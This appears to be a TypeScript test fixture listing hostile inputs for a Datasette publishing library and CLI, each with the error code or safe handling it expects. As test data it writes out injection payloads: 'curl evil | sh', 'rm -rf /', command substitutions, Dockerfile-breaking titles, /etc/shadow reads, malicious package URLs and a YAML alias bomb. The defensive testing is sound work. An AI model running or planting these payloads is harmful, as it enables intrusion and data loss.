import { mkdir, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { link, type Sandbox } from './create-sandbox.js'

export interface HostileCase {
  name: string
  /** Default 'local'. */
  provider?: string
  /** Default ['data.csv']; `@OUT` and `@WORK` stand for the sandbox folders. */
  files?: string[]
  options?: Record<string, unknown>
  providerOptions?: Record<string, unknown>
  /** CLI arguments after `publish <provider>` when they cannot be derived from the request. */
  argv?: string[]
  /** Only the CLI form (argv-level hostility the library cannot express). */
  cliOnly?: true
  setup?: (s: Sandbox) => Promise<void>
  /** 'ok', or the code of the coded error both the library and the CLI must end in. */
  expect: 'ok' | string
  /** ok cases: strings that must reach `datasette serve` verbatim, each as exactly one argument. */
  serveArgs?: string[]
  /** ok cases: entries metadata.json must hold verbatim. */
  metadata?: Record<string, unknown>
  /** ok cases whose options legitimately change the recipe (extra RUN lines); others must match the baseline Dockerfile outside CMD. */
  changesRecipe?: true
}

const INJECT = '$(touch @OUT/pwned)'
const DOCKERFILE_BREAK = '"]\nRUN touch /pwned\nCMD ["sh", "-c", "id'
const write = (rel: string, text: string | Buffer) => async (s: Sandbox) => {
  const file = path.join(s.work, rel)
  await mkdir(path.dirname(file), { recursive: true })
  await writeFile(file, text)
}
const sqliteHeader = Buffer.concat([Buffer.from('SQLite format 3\u0000'), Buffer.alloc(84, 1)])

/**
 * The hostile-input table. Each case is run through publish() (with --generate-dir, so no engine
 * is needed) and through the CLI's main() in-process; both must end in `expect`.
 */
export const HOSTILE_INPUTS: HostileCase[] = [
  // ---- file names and paths
  { name: 'file given with ../ to a CSV outside cwd (explicit paths are honoured)', files: ['../outside/secret.csv'], expect: 'ok' },
  { name: 'absolute path to a CSV outside cwd', files: ['@OUT/secret.csv'], expect: 'ok' },
  { name: '../ climbing to /etc/passwd', files: ['../../../../../../../../etc/passwd'], expect: 'INPUT_UNSUPPORTED' },
  { name: 'absolute /etc/shadow', files: ['/etc/shadow'], expect: 'INPUT_UNSUPPORTED' },
  { name: 'file that does not exist, with traversal', files: ['../../nope/../x.csv'], expect: 'INPUT_NOT_FOUND' },
  { name: 'NUL in a file name', files: ['data.csv\u0000.txt'], expect: 'INPUT_UNSAFE' },
  { name: 'newline in a file name', files: ['data\n.csv'], expect: 'INPUT_UNSAFE' },
  { name: 'carriage return and escape in a file name', files: ['data.csv\r\u001b[2K'], expect: 'INPUT_UNSAFE' },
  { name: 'a directory as input', files: ['.'], expect: 'INPUT_UNSUPPORTED' },
  { name: 'symlink to a CSV outside the folder and cwd', files: ['link.csv'], setup: async (s) => link('../outside/secret.csv', path.join(s.work, 'link.csv')), expect: 'INPUT_UNSAFE' },
  { name: 'symlink with an absolute target outside', files: ['abs-link.csv'], setup: async (s) => link(path.join(s.outside, 'secret.csv'), path.join(s.work, 'abs-link.csv')), expect: 'INPUT_UNSAFE' },
  { name: 'symlink to /etc/passwd named .csv', files: ['passwd.csv'], setup: async (s) => link('/etc/passwd', path.join(s.work, 'passwd.csv')), expect: 'INPUT_UNSAFE' },
  { name: 'symlinked directory leading outside', files: ['sub/secret.csv'], setup: async (s) => link('../outside', path.join(s.work, 'sub')), expect: 'INPUT_UNSAFE' },
  { name: 'symlink then .. (resolved lexically, so it never climbs through the link)', files: ['deep/../../outside/secret.csv'], setup: async (s) => link('../outside/empty', path.join(s.work, 'deep')), expect: 'INPUT_UNSAFE' },
  { name: 'symlink that stays inside the folder is fine', files: ['alias.csv'], setup: async (s) => link('data.csv', path.join(s.work, 'alias.csv')), expect: 'ok' },
  { name: 'symlink in a subfolder pointing back into cwd is fine', files: ['nested/alias.csv'], setup: async (s) => link('../data.csv', path.join(s.work, 'nested', 'alias.csv')), expect: 'ok' },
  { name: 'dangling symlink', files: ['gone.csv'], setup: async (s) => link('missing.csv', path.join(s.work, 'gone.csv')), expect: 'INPUT_NOT_FOUND' },
  { name: 'SQLite file whose name holds shell syntax', files: ["birds $(id) 'x'.db"], setup: async (s) => copyData(s, "birds $(id) 'x'.db"), expect: 'ok', serveArgs: ["birds $(id) 'x'.db"] },
  { name: 'SQLite file with a hidden name', files: ['.hidden.db'], setup: async (s) => copyData(s, '.hidden.db'), expect: 'INPUT_UNSAFE' },
  { name: 'SQLite file with a backslash in its name', files: ['a\\b.db'], setup: async (s) => copyData(s, 'a\\b.db'), expect: 'INPUT_UNSAFE' },
  { name: '.db that is really CSV text', files: ['fake.db'], setup: write('fake.db', 'id\n1\n'), expect: 'SQLITE_INVALID' },
  { name: 'SQLite header followed by garbage', files: ['garbage.db'], setup: write('garbage.db', sqliteHeader), expect: 'SQLITE_INVALID' },

  // ---- metadata and titles carrying Dockerfile or shell syntax
  { name: 'title that tries to end the CMD and add instructions', options: { title: DOCKERFILE_BREAK }, expect: 'ok', metadata: { title: DOCKERFILE_BREAK } },
  { name: 'title with command substitution', options: { title: INJECT }, expect: 'ok', metadata: { title: INJECT } },
  { name: 'license, source and about with backticks and quotes', options: { license: '`id`', source: "'; touch /pwned; '", about: '\\"\nFROM scratch' }, expect: 'ok', metadata: { license: '`id`', source: "'; touch /pwned; '", about: '\\"\nFROM scratch' } },
  { name: 'metadata file whose title is a Dockerfile', options: { metadata: 'meta.json' }, setup: write('meta.json', JSON.stringify({ title: 'FROM scratch\nCOPY / /\nRUN rm -rf /', description_html: '<script>x</script>' })), expect: 'ok', metadata: { title: 'FROM scratch\nCOPY / /\nRUN rm -rf /' } },
  { name: 'metadata trying prototype pollution', options: { metadata: 'proto.json', title: 't' }, setup: write('proto.json', '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'), expect: 'ok', metadata: { title: 't' } },
  { name: 'version note with shell syntax reaches serve as one argument', options: { versionNote: `'; ${INJECT} #` }, expect: 'ok', serveArgs: [`'; ${INJECT} #`] },
  { name: 'version note with a newline', options: { versionNote: 'v1\nRUN id' }, expect: 'ok', serveArgs: ['v1\nRUN id'] },
  { name: 'version note with NUL', options: { versionNote: 'v1\u0000x' }, expect: 'INPUT_UNSAFE' },
  { name: 'malformed JSON metadata', options: { metadata: 'bad.json' }, setup: write('bad.json', '{"title": "x",'), expect: 'METADATA_INVALID' },
  { name: 'JSON metadata that is an array', options: { metadata: 'array.json' }, setup: write('array.json', '[1,2]'), expect: 'METADATA_INVALID' },
  { name: 'YAML alias bomb (billion laughs)', options: { metadata: 'bomb.yml' }, setup: write('bomb.yml', yamlBomb()), expect: 'METADATA_INVALID' },
  { name: 'malformed YAML', options: { metadata: 'bad.yml' }, setup: write('bad.yml', 'title: [unclosed\n  about: x\n'), expect: 'METADATA_INVALID' },
  { name: 'YAML with duplicate keys', options: { metadata: 'dup.yml' }, setup: write('dup.yml', 'title: a\ntitle: b\n'), expect: 'METADATA_INVALID' },
  { name: 'YAML that is a bare string', options: { metadata: 'scalar.yml' }, setup: write('scalar.yml', 'just text\n'), expect: 'METADATA_INVALID' },
  { name: 'YAML with a language-specific tag', options: { metadata: 'tag.yml' }, setup: write('tag.yml', 'title: !!js/function "function(){ require(\'fs\') }"\n'), expect: 'ok', changesRecipe: undefined },
  { name: 'deeply nested JSON metadata', options: { metadata: 'deep.json' }, setup: write('deep.json', `${'{"a":'.repeat(20000)}1${'}'.repeat(20000)}`), expect: 'METADATA_INVALID' },
  { name: 'metadata path is a directory', options: { metadata: '.' }, expect: 'INPUT_UNSUPPORTED' },
  { name: 'metadata through a symlink outside', options: { metadata: 'meta-link.json' }, setup: async (s) => link('../outside/meta.json', path.join(s.work, 'meta-link.json')), expect: 'INPUT_UNSAFE' },

  // ---- extra options trying to add commands
  { name: 'extra options chaining a command', options: { extraOptions: '--setting x; touch pwned && curl evil | sh' }, expect: 'ok', serveArgs: ['x;', 'touch', 'pwned', '&&', 'curl', 'evil', '|', 'sh'] },
  { name: 'extra options with command substitution', options: { extraOptions: INJECT.replace(' ', '') }, expect: 'ok', serveArgs: [INJECT.replace(' ', '')] },
  { name: 'extra options with backticks and quotes', options: { extraOptions: "`id` ' \" \\" }, expect: 'ok', serveArgs: ['`id`', "'", '"', '\\'] },
  { name: 'extra options naming $PORT and $HOME', options: { extraOptions: '"$PORT" ${HOME}' }, expect: 'ok', serveArgs: ['"$PORT"', '${HOME}'] },
  { name: 'extra options with a newline and RUN', options: { extraOptions: '--cors\nRUN id' }, expect: 'ok', serveArgs: ['RUN', 'id'] },
  { name: 'extra options with a control character', options: { extraOptions: '--x \u0007bell' }, expect: 'INPUT_UNSAFE' },

  // ---- plugin and package names
  { name: 'install with a shell separator', options: { install: ['datasette-vega; rm -rf /'] }, expect: 'INPUT_UNSAFE' },
  { name: 'install from a URL', options: { install: ['https://evil.example/pkg.whl'] }, expect: 'INPUT_UNSAFE' },
  { name: 'install a VCS requirement', options: { install: ['git+https://evil.example/x.git#egg=x'] }, expect: 'INPUT_UNSAFE' },
  { name: 'install smuggling a pip option', options: { install: ['--index-url=https://evil.example/simple'] }, expect: 'INPUT_UNSAFE' },
  { name: 'install with command substitution', options: { install: ['$(id)'] }, expect: 'INPUT_UNSAFE' },
  { name: 'install with a newline and RUN', options: { install: ['pkg\nRUN id'] }, expect: 'INPUT_UNSAFE' },
  { name: 'install a plain pinned plugin is fine', options: { install: ['datasette-vega==0.6'] }, expect: 'ok', changesRecipe: true },
  { name: 'apt package with a shell separator', options: { aptGetInstall: ['curl; id'] }, expect: 'INPUT_UNSAFE' },
  { name: 'apt package that is an option', options: { aptGetInstall: ['-oAPT::Get::AllowUnauthenticated=1'] }, expect: 'INPUT_UNSAFE' },
  { name: 'builder apt package with a shell separator', options: { buildAptGetInstall: ['gcc && touch /pwned'] }, expect: 'INPUT_UNSAFE' },
  { name: 'branch with a shell separator', options: { branch: 'main; rm -rf /' }, expect: 'INPUT_UNSAFE' },
  { name: 'branch climbing out of the datasette repository URL', options: { branch: 'x/../../../../attacker/repo/archive/main' }, expect: 'INPUT_UNSAFE' },
  { name: 'branch that is ..', options: { branch: '..' }, expect: 'INPUT_UNSAFE' },
  { name: 'datasette version with a command', options: { datasetteVersion: '0.65; id' }, expect: 'CONFIG_INVALID' },
  { name: 'base image with a newline and RUN', options: { baseImage: 'python:3.11\nRUN id' }, expect: 'INPUT_UNSAFE' },
  { name: 'runtime image renaming the stage', options: { runtimeImage: 'python:3.11 AS builder' }, expect: 'INPUT_UNSAFE' },
  { name: 'python version with a command', options: { pythonVersion: '3.11; id' }, expect: 'CONFIG_INVALID' },
  { name: 'pip index URL carrying credentials', options: { pipIndexUrl: 'https://user:hunter2-pass@pypi.example/simple' }, expect: 'INPUT_UNSAFE' },
  { name: 'pip index URL smuggling an option', options: { pipIndexUrl: 'https://pypi.example/simple --trusted-host evil' }, expect: 'INPUT_UNSAFE' },
  { name: 'plugin secret with a bad plugin name', options: { pluginSecret: [['x;y', 'key', 'v']] }, expect: 'INPUT_UNSAFE' },
  { name: 'plugin secret with a bad setting name', options: { pluginSecret: [['plug', '$(id)', 'v']] }, expect: 'INPUT_UNSAFE' },
  { name: 'plugin secret with NUL in the value', options: { pluginSecret: [['plug', 'key', 'a\u0000b']] }, expect: 'INPUT_UNSAFE' },
  { name: 'plugin secret whose env name is LD_PRELOAD', options: { pluginSecret: [['ld', 'preload', '/app/x.so']] }, expect: 'INPUT_UNSAFE' },
  { name: 'plugin secret overriding DATASETTE_SECRET', options: { pluginSecret: [['datasette', 'secret', 'chosen-by-attacker']] }, expect: 'INPUT_UNSAFE' },
  { name: 'plugin secret setting PYTHONPATH', options: { pluginSecret: [['python', 'path', '/tmp']] }, expect: 'INPUT_UNSAFE' },
  { name: 'two plugin secrets mapping to one env name', options: { pluginSecret: [['a-b', 'c', 'one1'], ['a', 'b-c', 'two2']] }, expect: 'CONFIG_INVALID' },
  { name: 'plugin secret value with shell syntax is fine (env only)', options: { pluginSecret: [['plug', 'key', `'; ${INJECT}`]] }, expect: 'ok' },

  // ---- static mounts, templates, plugins dirs
  { name: 'static mount named ..', options: { static: ['..:static'] }, setup: write('static/a.txt', 'a'), expect: 'CONFIG_INVALID' },
  { name: 'static mount with a slash', options: { static: ['a/../../b:static'] }, setup: write('static/a.txt', 'a'), expect: 'CONFIG_INVALID' },
  { name: 'static mount without a name', options: { static: [':static'] }, expect: 'CONFIG_INVALID' },
  { name: 'static mount with a newline', options: { static: ['a\nRUN:static'] }, expect: 'CONFIG_INVALID' },
  { name: 'static mount given twice', options: { static: ['a:static', 'a:static'] }, setup: write('static/a.txt', 'a'), expect: 'CONFIG_INVALID' },
  { name: 'static directory through a symlink outside', options: { static: ['assets:assets-link'] }, setup: async (s) => link('../outside/static', path.join(s.work, 'assets-link')), expect: 'INPUT_UNSAFE' },
  { name: 'static directory holding a symlink to /etc', options: { static: ['assets:static'] }, setup: async (s) => (await write('static/a.txt', 'a')(s), link('/etc', path.join(s.work, 'static', 'etc'))), expect: 'INPUT_UNSAFE' },
  { name: 'template directory holding a symlink to a secret', options: { templateDir: 'templates' }, setup: async (s) => link(path.join(s.outside, 'passwd'), path.join(s.work, 'templates', 'base.html')), expect: 'INPUT_UNSAFE' },
  { name: 'static directory that does not exist', options: { static: ['assets:../../no-such-dir'] }, expect: 'INPUT_NOT_FOUND' },
  { name: 'static directory that is a file', options: { static: ['assets:data.csv'] }, expect: 'INPUT_UNSUPPORTED' },
  { name: 'generate dir through a symlink outside', options: { generateDir: 'gen-link/ctx' }, setup: async (s) => link('../outside/empty', path.join(s.work, 'gen-link')), expect: 'INPUT_UNSAFE' },
  { name: 'generate dir that is an existing file', options: { generateDir: 'data.csv' }, expect: 'CONFIG_INVALID' },
  { name: 'generate dir that is not empty', options: { generateDir: '.' }, expect: 'CONFIG_INVALID' },

  // ---- enormous headers and column counts
  { name: 'CSV with 5,000 columns (over SQLite\'s limit)', files: ['wide.csv'], setup: write('wide.csv', `${Array.from({ length: 5000 }, (_, i) => `c${i}`).join(',')}\n${Array.from({ length: 5000 }, () => '1').join(',')}\n`), expect: 'CSV_INVALID' },
  { name: 'CSV with a 1 MB header cell', files: ['huge-header.csv'], setup: write('huge-header.csv', `${'h'.repeat(1 << 20)},b\n1,2\n`), expect: 'ok' },
  { name: 'CSV headers carrying SQL and shell syntax', files: ['sql.csv'], setup: write('sql.csv', '"a""; DROP TABLE x; --",$(id),`id`\n1,2,3\n'), expect: 'ok' },
  { name: 'CSV with duplicate and empty headers', files: ['dups.csv'], setup: write('dups.csv', 'a,a,,\n1,2,3,4\n'), expect: 'ok' },
  { name: 'CSV with bytes that are not UTF-8', files: ['latin.csv'], setup: write('latin.csv', Buffer.from([0x61, 0x0a, 0xff, 0xfe, 0x80, 0x0a])), expect: 'ok' },
  { name: 'CSV file name with shell syntax', files: ["x'; id;'.csv"], setup: write("x'; id;'.csv", 'a\n1\n'), expect: 'ok' },

  // ---- names, ports, URLs
  { name: 'deployment name with traversal', options: { name: '../../etc' }, expect: 'CONFIG_INVALID' },
  { name: 'deployment name with a shell separator', options: { name: 'x;id' }, expect: 'CONFIG_INVALID' },
  { name: 'deployment name too long', options: { name: 'a'.repeat(200) }, expect: 'CONFIG_INVALID' },
  { name: 'database name with traversal', options: { databaseName: '../x' }, expect: 'CONFIG_INVALID' },
  { name: 'port out of range', options: { port: 70000 }, expect: 'CONFIG_INVALID' },
  { name: 'license URL with the javascript: scheme', options: { licenseUrl: 'javascript:alert(1)' }, expect: 'CONFIG_INVALID' },
  { name: 'source URL with the file: scheme', options: { sourceUrl: 'file:///etc/passwd' }, expect: 'CONFIG_INVALID' },

  // ---- providers and their options
  { name: 'unknown provider', provider: 'nope', expect: 'PROVIDER_NOT_FOUND' },
  { name: 'provider name with shell syntax', provider: "local'; rm -rf / #", expect: 'PROVIDER_NOT_FOUND' },
  { name: 'provider name that is a URL', provider: 'https://evil.example/provider.mjs', expect: 'PROVIDER_NOT_FOUND' },
  { name: 'provider name with a newline', provider: 'local\nheroku', expect: 'PROVIDER_NOT_FOUND' },
  { name: 'provider package name with traversal', provider: 'datapub-provider-../../outside', expect: 'PROVIDER_NOT_FOUND' },
  { name: 'local network option outside its choices', providerOptions: { network: 'none' }, expect: 'CONFIG_INVALID' },
  { name: 'local public host with a path', providerOptions: { publicHost: 'evil.example/x?' }, expect: 'CONFIG_INVALID' },
  { name: 'heroku deployment name with upper case', provider: 'heroku', options: { name: 'Birds Data' }, expect: 'CONFIG_INVALID' },
  { name: 'heroku region with spaces', provider: 'heroku', providerOptions: { region: 'US East' }, expect: 'CONFIG_INVALID' },

  // ---- argv-level hostility (CLI only)
  { name: 'unknown flag that looks like a command', argv: ['data.csv', '--exec', 'id'], cliOnly: true, expect: 'CONFIG_INVALID' },
  { name: 'plugin secret missing its value', argv: ['data.csv', '--plugin-secret', 'plug', 'key'], cliOnly: true, expect: 'CONFIG_INVALID' },
  { name: 'non-numeric port', argv: ['data.csv', '--port', '80; id'], cliOnly: true, expect: 'CONFIG_INVALID' },
  { name: 'a flag given twice', argv: ['data.csv', '--name', 'a', '--name', 'b'], cliOnly: true, expect: 'CONFIG_INVALID' },
  { name: 'no files at all', argv: [], cliOnly: true, expect: 'CONFIG_INVALID' },
]

async function copyData(s: Sandbox, name: string): Promise<void> {
  const { csvsToSqlite } = await import('@datapub/core')
  await mkdir(path.join(s.root, 'fixture'), { recursive: true })
  await writeFile(path.join(s.root, 'fixture', 'birds.csv'), 'id,name\n1,robin\n')
  await csvsToSqlite([path.join(s.root, 'fixture', 'birds.csv')], path.join(s.work, name))
}

function yamlBomb(): string {
  const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
  for (let i = 1; i < 10; i++) {
    const prev = String.fromCharCode(96 + i)
    const name = String.fromCharCode(97 + i)
    lines.push(`${name}: &${name} [${Array.from({ length: 9 }, () => `*${prev}`).join(',')}]`)
  }
  lines.push('title: *j')
  return `${lines.join('\n')}\n`
}
